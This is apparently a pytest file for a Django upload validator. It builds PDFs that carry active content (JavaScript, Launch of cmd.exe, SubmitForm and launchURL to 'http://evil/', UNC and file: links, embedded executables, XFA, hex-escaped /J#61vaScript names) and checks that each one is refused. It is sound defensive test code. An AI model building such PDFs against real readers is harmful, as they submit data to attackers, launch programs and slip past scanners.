"""The PDF check refuses active content wherever it hides (core.uploads.store_document).

Each hostile document is built here with pypdf: JavaScript, Launch, SubmitForm, ImportData,
remote go-to actions and ``file:`` links in the catalogue (``/OpenAction``, ``/AA``), on pages
and annotations (``/A``, ``/AA``), in bookmarks (outlines), chained with ``/Next``, in the names
tree, in form fields; names hex-escaped (``/J#61vaScript``) so no byte pattern finds them;
embedded files and XFA forms. Every refusal is a Chinese message on the field and stores
nothing; an ordinary document with a web link and bookmarks is accepted.
"""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from sunlit.core import uploads
from sunlit.core.models import Upload

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def storage_dir(tmp_path, settings):
    settings.SUNLIT_STORAGE_URL = str(tmp_path / "uploads")


def action(kind: str, **fields) -> DictionaryObject:
    values = {NameObject("/S"): NameObject(kind)}
    for key, value in fields.items():
        values[NameObject(f"/{key}")] = value
    return DictionaryObject(values)


def js() -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject("app.alert('x');"))


def document(build=None, *, escape: dict[bytes, bytes] | None = None) -> bytes:
    """A two-page PDF, changed by ``build(writer)``; ``escape`` swaps byte strings of the same
    length in the written file (to spell names as #-escapes the writer would not produce)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    if build is not None:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    for old, new in (escape or {}).items():
        assert len(old) == len(new) and old in data
        data = data.replace(old, new)
    return data


def link(writer, page: int, **keys) -> DictionaryObject:
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                   NameObject("/Subtype"): NameObject("/Link"),
                                   NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)})
    for key, value in keys.items():
        annotation[NameObject(f"/{key}")] = value
    target = writer.pages[page]
    target[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return annotation


def _root(writer, key, value):
    writer._root_object[NameObject(key)] = value


def _page_aa(writer):
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action(
        "/Launch", F=TextStringObject("cmd.exe"))})


def _outline(writer):
    item = writer.add_outline_item(title="第一章", page_number=0)
    item.get_object()[NameObject("/A")] = js()


def _nested_outline(writer):
    parent = writer.add_outline_item(title="目录", page_number=0)
    child = writer.add_outline_item(title="附件", page_number=1, parent=parent)
    child.get_object()[NameObject("/A")] = action("/ImportData", F=TextStringObject("x.fdf"))


def _names_tree(writer):
    _root(writer, "/Names", DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(js())])})}))


def _chained(writer):
    first = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference,
                                           NameObject("/Fit")]))
    first[NameObject("/Next")] = ArrayObject([action("/SubmitForm",
                                                     F=TextStringObject("http://evil/"))])
    _root(writer, "/OpenAction", first)


def _form_field(writer):
    field = DictionaryObject({NameObject("/FT"): NameObject("/Tx"),
                              NameObject("/T"): TextStringObject("amount"),
                              NameObject("/AA"): DictionaryObject({NameObject("/K"): js()})})
    _root(writer, "/AcroForm", DictionaryObject({
        NameObject("/Fields"): ArrayObject([writer._add_object(field)])}))


def _escaped_outline(writer):
    item = writer.add_outline_item(title="第一章", page_number=0)
    item.get_object()[NameObject("/A")] = DictionaryObject({
        NameObject("/S"): NameObject("/Xxxxxxxxxxxx"),
        NameObject("/Qqqq"): TextStringObject("this.exportDataObject({cName:'a', nLaunch:2})")})


def _embedded(writer):
    writer.add_attachment("run.exe", b"MZ....")


def _escaped_open_action(writer):
    # written as /Xxxxxxxxxxxx and /Qqqq, then escaped in the bytes: /J#61vaScript and /J#53
    _root(writer, "/OpenAction", DictionaryObject({
        NameObject("/S"): NameObject("/Xxxxxxxxxxxx"),
        NameObject("/Qqqq"): TextStringObject("app.launchURL('http://evil/')")}))


HOSTILE = {
    "open action: JavaScript": (lambda w: _root(w, "/OpenAction", js()), None),
    "catalogue /AA": (lambda w: _root(w, "/AA", DictionaryObject({NameObject("/WC"): js()})), None),
    "page /AA: Launch": (_page_aa, None),
    "link /A: SubmitForm": (lambda w: link(w, 0, A=action("/SubmitForm",
                                                          F=TextStringObject("http://x/"))), None),
    "link /AA: ImportData": (lambda w: link(w, 1, AA=DictionaryObject({NameObject("/E"): action(
        "/ImportData", F=TextStringObject("data.fdf"))})), None),
    "link: file: URI": (lambda w: link(w, 0, A=action("/URI", URI=TextStringObject(
        "file:///C:/Windows/System32/calc.exe"))), None),
    "link: UNC URI": (lambda w: link(w, 0, A=action("/URI", URI=TextStringObject(
        "\\\\evil\\share\\x"))), None),
    "link: remote go-to": (lambda w: link(w, 0, A=action("/GoToR", F=TextStringObject(
        "other.pdf"))), None),
    "bookmark: JavaScript": (_outline, None),
    "nested bookmark: ImportData": (_nested_outline, None),
    "names tree: JavaScript": (_names_tree, None),
    "/Next chain: SubmitForm": (_chained, None),
    "form field keystroke: JavaScript": (_form_field, None),
    "embedded file": (_embedded, None),
    "XFA form": (lambda w: _root(w, "/AcroForm", DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")})),
        None),
    "hex-escaped /J#61vaScript": (_escaped_open_action,
                                  {b"/Xxxxxxxxxxxx": b"/J#61vaScript", b"/Qqqq": b"/J#53"}),
    "hex-escaped, in a bookmark": (_escaped_outline,
                                   {b"/Xxxxxxxxxxxx": b"/J#61vaScript", b"/Qqqq": b"/J#53"}),
    "hex-escaped /L#61unch": (lambda w: _root(w, "/OpenAction", DictionaryObject({
        NameObject("/S"): NameObject("/Xxxxxxxx"), NameObject("/F"): TextStringObject("x")})),
        {b"/Xxxxxxxx": b"/L#61unch"}),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_active_content_is_refused_wherever_it_is(case, community, committee):
    build, escape = HOSTILE[case]
    data = document(build, escape=escape)
    if escape:  # no byte pattern of the plain name is left to find
        assert b"/JavaScript" not in data and b"/Launch" not in data
    with pytest.raises(ValidationError) as exc:
        uploads.store_document(data, community=community, actor=committee, field="file")
    assert list(exc.value.message_dict) == ["file"]
    assert "PDF" in exc.value.message_dict["file"][0]
    assert not Upload.objects.exists()


def test_an_ordinary_document_with_links_and_bookmarks_is_accepted(community, committee):
    def build(writer):
        link(writer, 0, A=action("/URI", URI=TextStringObject("https://example.org/合同")))
        writer.add_outline_item(title="第一章", page_number=0)
        child = writer.add_outline_item(title="第二章", page_number=1)
        child.get_object()[NameObject("/A")] = action(
            "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")]))

    upload = uploads.store_document(document(build), community=community, actor=committee)
    assert upload.kind == Upload.Kind.PDF


def test_the_api_refuses_it_with_422(client, community, committee):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(committee)
    data = document(_outline)
    answer = client.post(f"/api/v1/communities/{community.pk}/documents",
                         {"file": SimpleUploadedFile("纪要.pdf", data)})
    assert answer.status_code == 422
    assert answer.json()["errors"][0]["field"] == "file"
    assert not Upload.objects.exists()
